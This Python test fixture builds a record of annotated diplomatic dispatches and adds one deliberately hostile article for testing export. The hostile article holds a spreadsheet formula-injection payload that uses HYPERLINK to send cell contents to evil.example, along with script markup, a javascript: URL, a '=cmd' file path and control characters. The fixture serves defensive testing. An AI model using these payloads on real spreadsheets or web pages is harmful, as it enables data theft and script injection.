"""A record to export: the shipped dispatches as a person marked them, and one article that is out to do harm."""

from __future__ import annotations

from pathlib import Path

from communique.cli.demo import gold_readings
from communique.gather import article_of
from communique.reading import (
    Actor,
    Block,
    Event,
    EventParty,
    Meeting,
    Mention,
    Move,
    Party,
    Passage,
    Reading,
    Report,
    Role,
    Span,
    Statement,
    Term,
    Time,
)
from communique.record import Record

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"+1-@")'
MARKUP = "<script>alert(1)</script> ]]> & \u202eesrever\u202c \x1b[31m \ufffe"
HOSTILE = (
    f"{FORMULA} said Ana Torv, envoy of Ostland, on 3 March 2020.\n\n"
    f"Torv offered Westmark {MARKUP}\tand a tab. The two met in Zell\x0b between 4 and 6 March 2020, and will not meet "
    f"in Aar.\n\n{'Huge' * 5_000}"
)


def _span(words: str) -> Span:
    start = HOSTILE.index(words)
    return Span(start, start + len(words))


def hostile() -> Reading:
    """The reading of an article whose words look like formulas and markup."""
    article = article_of(
        HOSTILE, path="in/=cmd.txt", published="2020-03-07", outlet="+Post", title=MARKUP, url="javascript:alert(1)"
    )
    torv, ostland, westmark = Actor("ana-torv", "Ana Torv", "person", "SWE"), "SWE", "DNK"
    return Reading(
        article,
        (Block(Span(0, len(HOSTILE)), "body"),),
        (Mention("m1", _span("Ana Torv"), "person", "ana-torv", "name"),),
        (
            Actor(torv.id, torv.name, torv.kind, torv.country, (Role("envoy of Ostland", "SWEGOV"),)),
            Actor(ostland, "Sweden", "state", ostland),
            Actor(westmark, "Denmark", "state", westmark),
        ),
        (
            Time("t1", _span("3 March 2020"), "DATE", "2020-03-03", "2020-03-03", "2020-03-03"),
            Time("t2", _span("between 4 and 6 March 2020"), "DATE", "2020-03", "2020-03-04", "2020-03-06"),
        ),
        (
            Statement(
                "s1",
                Party((_span("Ana Torv"),), "ana-torv", "name"),
                Passage((_span("said"),)),
                Passage((_span(FORMULA),)),
                "direct",
                time="t1",
            ),
        ),
        (
            Event(
                "e1", "AID", None, None, ("diplomatic",),
                EventParty((_span("Torv"),), "ana-torv", "SWEGOV"),
                EventParty((_span("Westmark"),), westmark, "DNKGOV"),
                Passage((_span(MARKUP),)), time="t2",
            ),
            Event(
                "e2", "CONSULT", None, "040", ("diplomatic",),
                EventParty((_span("The two"),)), None, Passage((_span("will not meet"),)), status="planned",
            ),
        ),
        (
            Move(
                "v1", "offer", ostland, westmark, "ana-torv",
                gives=(Term((_span(MARKUP),), MARKUP, "sanctions"),),
                spans=(_span(f"offered Westmark {MARKUP}"),), time="t1",
            ),
        ),
        (
            Meeting(
                "g1", (westmark, ostland), ("ana-torv",), None, "Zell", "t2", (Report("held", (_span("met in Zell"),)),)
            ),
        ),
    )  # fmt: skip


def make(folder: Path) -> Path:
    """The folder of the record, woven."""
    record = Record.open(folder, create=True)
    record.add([*gold_readings(), hostile()])
    record.weave()
    return record.path
